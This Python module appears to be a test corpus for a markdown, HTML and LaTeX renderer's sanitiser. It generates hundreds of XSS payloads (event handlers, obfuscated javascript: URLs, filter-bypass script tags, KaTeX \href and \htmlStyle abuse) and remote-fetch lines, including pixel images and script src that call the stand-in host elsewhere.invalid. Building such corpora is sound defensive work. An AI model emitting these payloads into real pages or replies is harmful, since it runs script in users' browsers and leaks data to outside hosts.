"""What people and models may write so that a careless page runs it: several hundred, made from a few tables.

Each calls `alert`, or fetches from a host that is not ours.
"""

from itertools import product

ELSEWHERE = "https://elsewhere.invalid"

_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart", "onpointerenter", "onbegin")
_TAGS = (
    "<img src=x {e}=alert(1)>",
    "<svg {e}=alert(1)>",
    "<svg><animate attributeName=x dur=1s {e}=alert(1)></svg>",
    "<body {e}=alert(1)>",
    '<iframe src="javascript:alert(1)" {e}=alert(1)></iframe>',
    "<video src=x autoplay {e}=alert(1)><source {e}=alert(1)></video>",
    "<audio src=x {e}=alert(1)></audio>",
    "<details open {e}=alert(1)><summary>x</summary></details>",
    "<input autofocus {e}=alert(1)>",
    "<select autofocus {e}=alert(1)></select>",
    "<textarea autofocus {e}=alert(1)></textarea>",
    "<marquee {e}=alert(1)>x</marquee>",
    "<object data=x {e}=alert(1)></object>",
    "<embed src=x {e}=alert(1)>",
    "<math {e}=alert(1)><mi>x</mi></math>",
    '<div tabindex=0 style="animation:x" {e}=alert(1)>x</div>',
    '"><img src=x {e}=alert(1)>',
    "'><svg/{e}=alert(1)>",
    "</textarea></title></style></script><img src=x {e}=alert(1)>",
    "<!--><img src=x {e}=alert(1)>-->",
    "<noscript><p title='</noscript><img src=x {e}=alert(1)>'>",
    "<IMG/SRC=x\n{e}\n=\nalert(1)>",
    "**<img src=x {e}=alert(1)>**",
    "- item <svg {e}=alert(1)>",
    "| a |\n|---|\n| <img src=x {e}=alert(1)> |",
    "> <img src=x {e}=alert(1)>",
)
_ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;&#x61;vascript:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "\x01javascript:alert(1)",
    "%6aavascript:alert(1)",
    "javascript://%0aalert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "blob:https://elsewhere.invalid/x",
    "file:///etc/passwd",
    "//elsewhere.invalid/x",
    "view-source:javascript:alert(1)",
    "feed:javascript:alert(1)",
)
_LINKS = (
    "[click]({a})",
    "[click](<{a}>)",
    '[click]({a} "title onmouseover=alert(1)")',
    "<{a}>",
    "![picture]({a})",
    "[![picture]({a})]({a})",
    "[named]\n\n[named]: {a}",
    '<a href="{a}">click</a>',
    '<form action="{a}"><button formaction="{a}">x</button></form>',
)
_FETCHES = (
    f"![]({ELSEWHERE}/pixel.png)",
    f"![]({ELSEWHERE}/pixel.png 'title')",
    f"![ref]\n\n[ref]: {ELSEWHERE}/pixel.png",
    f"[![]({ELSEWHERE}/pixel.png)]({ELSEWHERE})",
    f"<img src={ELSEWHERE}/pixel.png>",
    f"<img srcset='{ELSEWHERE}/pixel.png 1x'>",
    f"<picture><source srcset={ELSEWHERE}/pixel.png><img></picture>",
    f"<link rel=stylesheet href={ELSEWHERE}/x.css>",
    f"<style>@import '{ELSEWHERE}/x.css';</style>",
    f"<style>body{{background:url({ELSEWHERE}/x.png)}}</style>",
    f"<div style='background:url({ELSEWHERE}/x.png)'>x</div>",
    f"<table background={ELSEWHERE}/x.png><tr><td>x</table>",
    f"<script src={ELSEWHERE}/x.js></script>",
    f"<iframe src={ELSEWHERE}></iframe>",
    f"<object data={ELSEWHERE}></object>",
    f"<embed src={ELSEWHERE}>",
    f"<video poster={ELSEWHERE}/x.png src={ELSEWHERE}/x.mp4></video>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<base href={ELSEWHERE}/>",
    f"<svg><image href={ELSEWHERE}/x.png /><use href={ELSEWHERE}/x.svg#x /></svg>",
    f"<input type=image src={ELSEWHERE}/x.png>",
    f"<link rel=prefetch href={ELSEWHERE}><link rel=dns-prefetch href={ELSEWHERE}>",
)
_SCRIPTS = (
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<ScRiPt >alert(1)</sCrIpT >",
    "<svg><script>alert(1)</script></svg>",
    "<svg><foreignObject><script>alert(1)</script></foreignObject></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<%= alert(1) %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e<script>alert(1)</script>",
    "<script\u2028>alert(1)</script>",
    "\\<script>alert(1)\\</script>",
)
_FENCES = (
    "`{s}`",
    "```html\n{s}\n```",
    "```{s}\ncode\n```",
    "~~~ {s}\ncode\n~~~",
    "$${s}$$",
    "    {s}",
    "~~{s}~~",
    "# {s}",
)

_TEX = (
    r"\href{javascript:alert(1)}{x}",
    r"\href{data:text/html,<script>alert(1)</script>}{x}",
    rf"\url{{{ELSEWHERE}/x}}",
    rf"\includegraphics[height=1em]{{{ELSEWHERE}/pixel.png}}",
    r"\htmlClass{x}{y}",
    r"\htmlId{app}{y}",
    rf"\htmlStyle{{background:url({ELSEWHERE}/x.png)}}{{y}}",
    r"\htmlData{x=y}{z}",
    r"\text{<img src=x onerror=alert(1)>}",
    r"\text{</annotation></semantics></math><script>alert(1)</script>}",
    r"\unicode{x3c}script\unicode{x3e}alert(1)",
    r"\def\a{\a\a}\a",
    r"\newcommand{\b}[1]{\href{javascript:alert(1)}{#1}}\b{x}",
    r"\verb|<img src=x onerror=alert(1)>|",
    r"\color{red;background:url(//elsewhere.invalid/x)}x",
    r"\rule{1e9em}{1e9em}",
)
_FORMULAS = ("\\({t}\\)", "$${t}$$", "\\[{t}\\]", "- item \\({t}\\)")

PAYLOADS: tuple[str, ...] = (
    *(tag.format(e=event) for tag, event in product(_TAGS, _EVENTS)),
    *(link.format(a=address) for link, address in product(_LINKS, _ADDRESSES)),
    *_FETCHES,
    *_SCRIPTS,
    *(fence.format(s=script) for fence, script in product(_FENCES, _SCRIPTS)),
    *(formula.format(t=tex) for formula, tex in product(_FORMULAS, _TEX)),
)
